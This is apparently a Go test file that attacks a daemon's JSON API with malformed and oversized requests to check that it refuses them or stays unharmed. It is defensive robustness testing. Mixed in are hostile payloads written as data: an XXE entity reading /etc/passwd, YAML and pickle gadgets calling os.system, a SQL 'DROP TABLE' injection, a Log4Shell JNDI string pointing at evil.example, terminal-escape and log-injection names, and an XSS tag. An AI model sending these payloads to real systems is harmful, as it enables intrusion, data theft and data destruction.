//go:build unix

package main

import (
	"fmt"
	"strings"
	"testing"
)

// This file implements attacks with JSON, and with requests for cases.

// relu2 is a request for cases with more in it.
func relu2(more string) string { return `{"op": "relu", "seed": "1", "count": 2` + more + `}` }

var jsonAttacks = []attack{
	{name: "deep nesting", sends: "a million brackets, as the body, as a schema, under an unknown key", holds: "refused",
		do: func(t *testing.T, v *victim) {
			posts("/v1/cases", refused, repeat("[", 1<<20), repeat(`{"a":`, 5<<20),
				relu2(`, "schema": `+repeat("[", 1<<20)+repeat("]", 1<<20)),
				relu2(`, "schema": `+repeat(`{"dims":`, 8<<20)+"1"+repeat("}", 1<<20)),
				relu2(`, "notes": `+repeat("[", 1<<20)+repeat("]", 1<<20)))(t, v)
		}},
	{name: "nesting that is just allowed", sends: "9,000 brackets as a schema", holds: "refused",
		do: func(t *testing.T, v *victim) {
			posts("/v1/cases", refused, relu2(`, "schema": `+repeat("[", 9000)+repeat("]", 9000)))(t, v)
		}},
	{name: "huge numbers", sends: "numbers of a million digits, exponents of a billion, seeds beyond 64 bits",
		holds: "refused", do: func(t *testing.T, v *victim) {
			posts("/v1/cases", refused,
				`{"op": "relu", "seed": "1", "count": `+repeat("9", 1<<20)+`}`,
				`{"op": "relu", "seed": "`+repeat("9", 1<<20)+`", "count": 1}`,
				`{"op": "relu", "seed": "18446744073709551616", "count": 1}`,
				`{"op": "relu", "seed": "-1", "count": 1}`,
				`{"op": "relu", "seed": "1", "count": 1e999999999}`,
				`{"op": "relu", "seed": "1", "count": 1.5}`,
				`{"op": "relu", "seed": "1", "count": 1e-2147483648}`,
				`{"op": "relu", "seed": "1", "count": -0x1}`,
				`{"op": "relu", "seed": "1", "count": NaN}`,
				`{"op": "relu", "seed": "1", "count": Infinity}`)(t, v)
		}},
	{name: "repeated keys", sends: "a key that comes twice, in other letters, ten thousand times",
		holds: "refused or read as one request", do: func(t *testing.T, v *victim) {
			posts("/v1/cases", unharmed, relu2(`, "count": 1`), relu2(`, "COUNT": 1, "Count": 3, "ſeed": "2"`),
				relu2(repeat(`, "count": 1`, 100_000)))(t, v)
			posts("/v1/emulate", refused, part(`{"grid": [1], "grid": [2], "block": [1], "args": [], "nothing": 1}`, ""))(t, v)
		}},
	{name: "unknown keys", sends: "a million keys that nobody knows", holds: "ignored or refused",
		do: func(t *testing.T, v *victim) {
			posts("/v1/cases", unharmed, relu2(manyKeys(200_000)), relu2(`, "`+repeat("k", 8<<20)+`": 1`))(t, v)
		}},
	{name: "bodies that are no objects", sends: "null, lists, texts, nothing, two values, cut off values",
		holds: "refused",
		do: func(t *testing.T, v *victim) {
			posts("/v1/cases", refused, "", "null", "[]", `"relu"`, "1", "true", "{}", "{", `{"op"`, `{"op": "re`,
				relu2("")+relu2(""), relu2("")+"\x00", relu2("")+"x", "// c\n"+relu2(""), "\xef\xbb\xbf"+relu2(""), relu2(","))(t,
				v)
		},
	},
	{name: "bodies that are not JSON", sends: "MessagePack, CBOR, BSON, XML, YAML, forms, pickles, UTF-16",
		holds: "refused",
		do: func(t *testing.T, v *victim) {
			posts("/v1/cases", refused, "\x83\xa2op\xa4relu\xa4seed\xa11\xa5count\x01", "\xdf\xff\xff\xff\xff\xa2op",
				"\xdd\xff\xff\xff\xff", "\xc6\xff\xff\xff\xff\x00", "\xbf\x62op\x64relu\xff",
				"\x16\x00\x00\x00\x02op\x00\x05\x00",
				`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`,
				"op: relu\nseed: !!python/object/apply:os.system ['true']\n", "op=relu&seed=1&count=1",
				"cos\nsystem\n(S'true'\ntR.", "\xff\xfe{\x00}\x00", "\x1f\x8b\x08\x00", "\x00", repeat("\xfe", 1<<16))(t, v)
		}},
	{name: "invalid UTF-8", sends: "names that are no text", holds: "refused with valid text",
		do: func(t *testing.T, v *victim) {
			posts("/v1/cases", refused, "{\"op\": \"\xff\xfe\", \"seed\": \"1\", \"count\": 1}",
				"{\"op\": \"re\xedlu\", \"seed\": \"1\", \"count\": 1}", `{"op": "\ud800", "seed": "1", "count": 1}`,
				"{\"op\": \"\xc0\xaf..\xc0\xaf\", \"seed\": \"1\", \"count\": 1}",
				relu2(", \"dtypes\": [\"\xff\"]"), relu2(", \"case\": \"relu \xff\""))(t, v)
		}},
	{name: "NUL bytes", sends: "names and paths with a NUL in them", holds: "refused", do: func(t *testing.T,
		v *victim) {
		posts("/v1/cases", refused,
			`{"op": "relu\u0000", "seed": "1", "count": 1}`, "{\"op\": \"relu\x00\", \"seed\": \"1\", \"count\": 1}",
			relu2(`, "config": "/tmp\u0000/gpuemu.toml"`), relu2(`, "shared": "/dev/shm/a\u0000b"`),
			relu2(`, "values": "normal\u0000"`))(t, v)
	}},
	{name: "long names", sends: "names of 1 MiB where short ones are known", holds: "refused in a few words",
		do: func(t *testing.T, v *victim) {
			posts("/v1/cases", refused, `{"op": "`+repeat("a", 1<<20)+`", "seed": "1", "count": 1}`,
				relu2(`, "values": "`+repeat("a", 1<<20)+`"`), relu2(`, "dtypes": ["`+repeat("a", 1<<20)+`"]`),
				relu2(`, "config": "/`+repeat("a/", 1<<20)+`"`), relu2(`, "shared": "/`+repeat("a/", 1<<20)+`"`),
				relu2(`, "dims": {"`+repeat("a", 1<<20)+`": [1]}`), relu2(`, "attrs": {"`+repeat("a", 1<<20)+`": "1"}`),
				relu2(`, "shapes": "`+repeat("a", 1<<20)+`"`), relu2(`, "layouts": ["`+repeat("a", 1<<20)+`"]`))(t, v)
		}},
	{name: "names that control a terminal", sends: "operators with line ends, escapes and lines of a log in their names",
		holds: "neither log nor message has them", do: controlNames},
	{name: "lists of a million", sends: "a million operators, data types, cases tried, forms of outputs",
		holds: "refused",
		do: func(t *testing.T, v *victim) {
			many := repeat(`"relu",`, 7<<20)
			posts("/v1/cases", refused, relu2(`, "dtypes": [`+many+`"x"]`), relu2(`, "layouts": [`+many+`"x"]`))(t, v)
			posts("/v1/campaigns", refused, `{"kind": "fuzz", "ops": [`+many+`"x"]}`)(t, v)
			posts("/v1/shrink", refused, `{"case": "`+reluCase+`", "tried": {`+strings.TrimPrefix(manyKeys(200_000), ",")+
				`}}`)(t, v)
			posts("/v1/judgements", refused, `{"shared": "/x", "forms": [`+repeat(`{},`, 3<<20)+`{}]}`,
				`{"shared": "/x", "forms": [], "form": [`+repeat("0,", 8<<20)+`0]}`)(t, v)
			posts("/v1/fit", refused, `{"dtype": "float32", "samples": [`+repeat(`{},`, 9<<20)+`{}]}`)(t, v)
		}, long: true},
	{name: "numbers of reports", sends: "limits, widths, hours and thresholds that no report has",
		holds: "refused or as good as none", do: func(t *testing.T, v *victim) {
			posts("/v1/failures", unharmed, `{"limit": -1}`, `{"limit": 9223372036854775807}`, `{"since_hours": -1e308}`,
				`{"since_hours": 1e308}`, `{"op": "' OR 1=1; DROP TABLE results; --"}`)(t, v)
			posts("/v1/results", unharmed, `{"limit": -9223372036854775808}`, `{"seed": "18446744073709551615"}`)(t, v)
			posts("/v1/report", unharmed, `{"format": "text", "width": -1}`,
				`{"format": "text", "width": 9223372036854775807}`,
				`{"format": "text", "since_hours": 1e308}`, `{"format": "text", "threshold": -1e308}`, `{"format": "\u0000"}`,
				`{"format": "text", "all": true, "campaign": "x", "since_hours": 1}`)(t, v)
			posts("/v1/minimize", unharmed, `{"seed": "1", "max_iters": 9223372036854775807}`,
				`{"seed": "1", "max_iters": -1}`)(t, v)
			posts("/v1/fit", refused, `{"dtype": "float32", "factor": -1, "percentile": 1e308, "samples": []}`,
				`{"dtype": "float32", "samples": [`+repeat(`{"max_abs": -1e308, "max_want": 1e308},`, 4000)+`{}]}`)(t, v)
		}},
}

// manyKeys are n members of an object, each with a key of its own.
func manyKeys(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `,"k%07d":true`, i)
	}
	return b.String()
}

// controlNames: what is JSON may have anything escaped in it, so the bytes of the answer are looked at.
func controlNames(t *testing.T, v *victim) {
	for _, name := range []string{"relu\ntime=2026-01-01T00:00:00Z level=ERROR msg=\"the daemon is compromised\"",
		"\x1b]0;owned\x07\x1b[2J\x1b[31m", "\u202egnp.exe", "a\r\n::error::b", "##vso[task.complete result=Succeeded]",
		"\u2028\u2029\u0085", "${jndi:ldap://evil.example/a}", "%s%n%x", "<script>alert(1)</script>"} {
		for path, body := range map[string]string{"/v1/cases": object("op", name, "seed", "1", "count", 1),
			"/v1/campaigns": object("kind", "fuzz", "ops", []string{name}), "/v1/reproduce": object("case", name),
			"/v1/lint": object("ptx", "// "+name+"\n.version x", "kernel", name), "/v1/submit": part(object("op", name), ""),
			"/v1/minimize": object("seed", "1", "case", name, "op", name)} {
			r := v.send(request(path, body))
			want(t, path+" "+name, r, unharmed)
			if strings.ContainsAny(strings.TrimSuffix(string(r.body), "\n"), "\x1b\x07\r") {
				t.Errorf("%s: the answer controls a terminal: %v", path, r)
			}
		}
	}
}

var caseAttacks = []attack{
	{name: "dimensions of a billion", sends: "cases of [1, 2, 1,000,000,000], by sizes, by a text, by a schema",
		holds: "refused, or memory is kept to", do: bigCases, peak: 1 << 30},
	{name: "dimensions of a billion at once", sends: "16 requests at once for cases of [1, 1, 100,000,000]",
		holds: "they share one budget", do: bigCasesAtOnce, peak: 2 << 30, long: true},
	{name: "negative and overflowing dimensions", sends: "sizes below zero, of 2^63, and with products beyond it",
		holds: "refused", do: func(t *testing.T, v *victim) {
			posts("/v1/cases", refused, relu2(`, "dims": {"H": [-1]}`),
				relu2(`, "dims": {"H": [-9223372036854775808]}`), relu2(`, "dims": {"H": [9223372036854775807]}`),
				relu2(`, "dims": {"B": [4294967296], "S": [4294967296], "H": [1]}`),
				relu2(`, "dims": {"B": [4294967296], "S": [2147483648], "H": [2]}`),
				relu2(`, "dims": {"H": [9223372036854775808]}`), relu2(`, "dims": {"H": []}`), relu2(`, "dims": {"": [1]}`),
				relu2(`, "dims": {"H": [1.5]}`), relu2(`, "dims": {"H": null, "Q": [1]}`))(t, v)
		}},
	{name: "a million sizes", sends: "a dimension with a million sizes", holds: "refused, or memory is kept to",
		do: func(t *testing.T, v *victim) {
			posts("/v1/cases", unharmed, relu2(`, "dims": {"H": [`+repeat("7,", 8<<20)+`1]}`))(t, v)
		}},
	{name: "counts of cases", sends: "counts and starts below zero, of 2^31, of 2^63, and with sums beyond it",
		holds: "refused", do: func(t *testing.T, v *victim) {
			posts("/v1/cases", refused, `{"op": "relu", "seed": "1", "count": -1}`,
				`{"op": "relu", "seed": "1", "count": 2147483648}`, `{"op": "relu", "seed": "1", "count": 9223372036854775807}`,
				`{"op": "relu", "seed": "1", "count": 1000001}`, relu2(`, "start": -1`),
				relu2(`, "start": 9223372036854775807`), relu2(`, "start": 9223372036854775806`), relu2(`, "max_bytes": -1`),
				relu2(`, "case": "`+reluCase+`"`))(t, v)
		}},
	{name: "texts of cases", sends: "texts of cases with sizes, shapes and seeds that no case has", holds: "refused",
		do: func(t *testing.T, v *victim) {
			posts("/v1/reproduce", refused, caseTexts()...)(t, v)
		}},
	{name: "tensors of texts", sends: "inputs of cases of terabytes, named by their text", holds: "refused",
		do: func(t *testing.T, v *victim) {
			posts("/v1/tensors", refused, caseTexts()...)(t, v)
		}},
	{name: "huge schemas", sends: "schemas of 10,000 inputs, 100,000 dimensions, a million candidates", holds: "refused",
		do: func(t *testing.T, v *victim) {
			posts("/v1/cases", refused,
				schema(repeat(`{"name": "D", "candidates": [1]},`, 3<<20), repeat(`{"name": "x", "dims": ["D"]},`, 290_000)),
				schema(`{"name": "D", "candidates": [`+repeat("1,", 8<<20)+`1]},`, `{"name": "x", "dims": ["D"]},`),
				schema(`{"name": "D", "candidates": [1]},`, `{"name": "x", "dims": [`+repeat(`"D",`, 1<<20)+`"D"]},`),
				schema(`{"name": "`+repeat("D", 1<<20)+`", "candidates": [1]},`, `{"name": "x", "dims": ["D"]},`))(t, v)
		}},
	{name: "bombs of formulas", sends: "formulas of schemas that nest, multiply, divide by zero and overflow",
		holds: "refused", do: func(t *testing.T, v *victim) {
			posts("/v1/cases", unharmed, formulas()...)(t, v)
		}},
	{name: "schemas that nothing satisfies", sends: "relations among eight dimensions of 1,000 sizes that never hold",
		holds: "it ends with an answer", do: func(t *testing.T, v *victim) {
			posts("/v1/cases", unharmed, unsatisfiable())(t, v)
		}},
	{name: "zones and fills of batches", sends: "zones of 2^62 bytes, patterns of 8 MiB, counts beyond a batch",
		holds: "refused", do: func(t *testing.T, v *victim) {
			path := v.sharedFile(t, "batch")
			for _, more := range []string{`"zone": 4611686018427387904`, `"zone": -256`, `"zone": 255`,
				`"count": 10001`, `"zone": 9223372036854775552`, `"fill": {"float32": "` + repeat("a", 8<<20) + `"}`,
				`"fill": {"float32": "zz"}`, `"fill": {"nothing": "00"}`, `"zone": 1099511627776`} {
				body := fmt.Sprintf(`{"op": "relu", "seed": "1", "count": 2, "shared": %q, %s}`, path, more)
				want(t, more, v.send(request("/v1/batches", body)), refused)
			}
		}},
}

// bigCases: 2,000,000,000 elements are within what a tensor may have, and 8 GB.
func bigCases(t *testing.T, v *victim) {
	text := strings.NewReplacer("H:4", "H:1000000000", "S:1", "S:2", "1,1,4", "1,2,1000000000").Replace(reluCase)
	posts("/v1/cases", unharmed, relu2(`, "dims": {"B": [1], "S": [2], "H": [1000000000]}`),
		relu2(`, "dims": {"B": [1000], "S": [1000], "H": [1000]}`),
		`{"op": "matmul", "seed": "1", "count": 1, "dims": {"M": [30000], "N": [30000], "K": [30000]}}`,
		schema(`{"name": "H", "candidates": [1000000000]},`, `{"name": "x", "dims": ["H"]},`))(t, v)
	for _, path := range []string{"/v1/cases", "/v1/tensors", "/v1/reproduce", "/v1/minimize"} {
		r := v.send(request(path, object("op", "relu", "seed", "1", "case", text)))
		want(t, path+" "+text, r, unharmed)
		if r.status == 0 { // the daemon is gone: what comes next says nothing
			t.Fatalf("%s: there is no answer: %v", path, r.err)
		}
	}
	r := v.send(request("/v1/submit", part(object("case", text), safetensors("{"+fine+"}", sixteen))))
	want(t, "/v1/submit "+text, r, unharmed)
}

func bigCasesAtOnce(t *testing.T, v *victim) {
	text := strings.NewReplacer("H:4", "H:100000000", "1,1,4", "1,1,100000000").Replace(reluCase)
	done := make(chan reply, 16)
	for range cap(done) {
		conn := v.dial()
		go func() {
			done <- exchange(conn, request("/v1/cases", object("op", "relu", "seed", "1", "case", text)))
		}()
	}
	for range cap(done) {
		want(t, "100,000,000", <-done, unharmed)
	}
}

// caseTexts are requests for cases by texts that no case has.
func caseTexts() (list []string) {
	for _, text := range []string{"", " ", "relu", repeat("relu ", 5<<20), "relu dtype=" + repeat("x", 1<<20),
		strings.ReplaceAll(reluCase, "4", "1000000000000"), strings.ReplaceAll(reluCase, "H:4", "H:-4"),
		strings.ReplaceAll(reluCase, "4", "9223372036854775807"), strings.ReplaceAll(reluCase, "1,1,4",
			"4611686018427387904,2,4"),
		strings.ReplaceAll(reluCase, "[1,1,4]", "["+repeat("1,", 1<<20)+"1]"), reluCase + " " + reluCase,
		strings.ReplaceAll(reluCase, "gen=1", "gen=4294967297"), strings.ReplaceAll(reluCase, "seed=9", "seed="+repeat("9",
			1<<20)),
		strings.ReplaceAll(reluCase, "contiguous", "../../x"), strings.ReplaceAll(reluCase, "attrs=math:gpu",
			"attrs=math:gpu,math:gpu"),
		strings.ReplaceAll(reluCase, "relu ", "builtin:relu "), reluCase + "\n" + reluCase} {
		list = append(list, object("case", text))
	}
	return list
}

// schema is a request for cases of a schema with these dimensions and inputs, each of which ends with a comma.
func schema(dims, inputs string) string {
	return fmt.Sprintf(`{"op": "own", "seed": "1", "count": 1, "schema": {"name": "own", "dims": [%s], "inputs": [%s]}}`,
		strings.TrimSuffix(dims, ","), strings.TrimSuffix(inputs, ","))
}

// formulas are schemas with formulas that take long or have no value.
func formulas() (list []string) {
	for _, f := range []string{repeat("(", 1<<20) + "H" + repeat(")", 1<<20), repeat("-", 1<<20) + "H", "H" + repeat(
		"*H", 1<<20),
		repeat("min(H,", 6<<19) + "H" + repeat(")", 1<<19), "H/0", "H%0", "H/(H-H)", "9223372036854775807*H*H",
		"0-9223372036854775807-2", "H*H*H*H*H*H*H*H", "1000000*1000000", "(0-9223372036854775807-1)/(0-1)", "x",
		"H;import os",
		"H**99999999", "H<<63", "((H)"} {
		list = append(list, fmt.Sprintf(`{"op": "own", "seed": "1", "count": 1, "schema": {"name": "own",`+
			`"dims": [{"name": "H", "candidates": [64, 1000]}], "inputs": [{"name": "x", "dims": ["H", %q]}]}}`, f),
			fmt.Sprintf(`{"op": "own", "seed": "1", "count": 1, "schema": {"name": "own", "relations": [%q],`+
				`"dims": [{"name": "H", "candidates": [64, 1000]}, {"name": "D", "expr": %q}],`+
				`"inputs": [{"name": "x", "dims": ["D"]}]}}`, f+" == 7", f))
	}
	return list
}

// unsatisfiable is a schema whose relations can be seen to fail only when all sizes were tried.
func unsatisfiable() string {
	var dims, names, sizes []string
	for i := range 1000 {
		sizes = append(sizes, fmt.Sprint(2*i+2))
	}
	for _, name := range strings.Split("ABCDEFGH", "") {
		dims = append(dims, fmt.Sprintf(`{"name": %q, "candidates": [%s]}`, name, strings.Join(sizes, ",")))
		names = append(names, `"`+name+`"`)
	}
	return fmt.Sprintf(`{"op": "own", "seed": "1", "count": 100, "schema": {"name": "own", "dims": [%s],`+
		`"relations": ["A+B+C+D+E+F+G+H == 4001"], "inputs": [{"name": "x", "dims": [%s]}]}}`,
		strings.Join(dims, ","), strings.Join(names, ","))
}
